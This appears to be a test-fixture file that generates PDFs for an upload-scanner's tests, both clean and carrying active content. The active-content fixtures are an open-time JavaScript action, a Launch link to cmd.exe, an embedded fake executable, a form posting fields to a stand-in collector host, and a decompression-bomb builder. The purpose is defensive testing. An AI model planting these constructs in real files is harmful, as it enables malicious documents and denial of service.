import { deflateSync } from "node:zlib";
import { PDFDocument, PDFName, PDFString } from "pdf-lib";

// Real PDFs for tests, made with pdf-lib: clean ones, and ones carrying the kinds of active
// content the upload check must find (built with pdf-lib's low-level objects, as an attacker would).

export async function cleanPdf({
  pages = 1,
  author,
  objectStreams = true,
}: { pages?: number; author?: string; objectStreams?: boolean } = {}): Promise<Buffer> {
  const doc = await PDFDocument.create();
  if (author) doc.setAuthor(author);
  for (let i = 0; i < pages; i++)
    doc.addPage([300, 400]).drawText(`Page ${i + 1}`, { x: 40, y: 340, size: 24 });
  return Buffer.from(await doc.save({ useObjectStreams: objectStreams }));
}

/** A PDF padded to about `bytes` with an unused stream (a large honest scan looks like this). */
export async function largePdf(bytes: number): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage([300, 400]);
  doc.context.register(doc.context.stream(new Uint8Array(bytes).fill(0x20)));
  return Buffer.from(await doc.save());
}

type Options = { objectStreams?: boolean; pages?: number };

async function build(
  add: (doc: PDFDocument) => void | Promise<void>,
  { objectStreams = false, pages = 1 }: Options = {},
): Promise<Buffer> {
  const doc = await PDFDocument.create();
  for (let i = 0; i < pages; i++)
    doc.addPage([300, 400]).drawText(`Page ${i + 1}`, { x: 40, y: 340, size: 24 });
  await add(doc);
  return Buffer.from(await doc.save({ useObjectStreams: objectStreams }));
}

/** JavaScript run as soon as the document opens (/OpenAction → /S /JavaScript). */
export const javascriptPdf = (options?: Options) =>
  build((doc) => {
    const action = doc.context.obj({
      Type: "Action",
      S: "JavaScript",
      JS: PDFString.of("app.alert('opened')"),
    });
    doc.catalog.set(PDFName.of("OpenAction"), doc.context.register(action));
  }, options);

/** A link annotation that starts a program (/S /Launch). */
export const launchPdf = (options?: Options) =>
  build((doc) => {
    const page = doc.getPage(0);
    const annotation = doc.context.obj({
      Type: "Annot",
      Subtype: "Link",
      Rect: [0, 0, 100, 100],
      A: { S: "Launch", F: PDFString.of("cmd.exe"), NewWindow: true },
    });
    page.node.set(PDFName.of("Annots"), doc.context.obj([doc.context.register(annotation)]));
  }, options);

/** A file carried inside the PDF (the /EmbeddedFiles name tree). */
export const embeddedFilePdf = (options?: Options) =>
  build(async (doc) => {
    await doc.attach(Buffer.from("MZ not really a program"), "invoice.exe", {
      mimeType: "application/octet-stream",
    });
  }, options);

/** A form whose button sends its fields to a web address (/AcroForm, /S /SubmitForm). */
export const formSubmitPdf = (options?: Options) =>
  build((doc) => {
    const page = doc.getPage(0);
    const widget = doc.context.register(
      doc.context.obj({
        Type: "Annot",
        Subtype: "Widget",
        FT: "Btn",
        T: PDFString.of("send"),
        Rect: [10, 10, 110, 40],
        A: {
          S: "SubmitForm",
          F: { FS: "URL", F: PDFString.of("https://collector.example/submit") },
        },
      }),
    );
    page.node.set(PDFName.of("Annots"), doc.context.obj([widget]));
    doc.catalog.set(PDFName.of("AcroForm"), doc.context.obj({ Fields: [widget] }));
  }, options);

/** A plain web link: noted, not active content. */
export const linkPdf = (options?: Options) =>
  build((doc) => {
    const annotation = doc.context.obj({
      Type: "Annot",
      Subtype: "Link",
      Rect: [0, 0, 100, 100],
      A: { S: "URI", URI: PDFString.of("https://example.org/") },
    });
    doc
      .getPage(0)
      .node.set(PDFName.of("Annots"), doc.context.obj([doc.context.register(annotation)]));
  }, options);

/**
 * A valid PDF followed by an object stream that inflates to `inflatedBytes` of zeros: a few
 * hundred kB that a naive parser unpacks into memory in full.
 */
export async function objectStreamBomb(inflatedBytes: number): Promise<Buffer> {
  const base = (await cleanPdf()).toString("latin1").replace(/%%EOF\s*$/, "");
  const packed = deflateSync(Buffer.alloc(inflatedBytes));
  const head = `99 0 obj\n<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`;
  return Buffer.concat([
    Buffer.from(base, "latin1"),
    Buffer.from(head, "latin1"),
    packed,
    Buffer.from("\nendstream\nendobj\n%%EOF\n", "latin1"),
  ]);
}
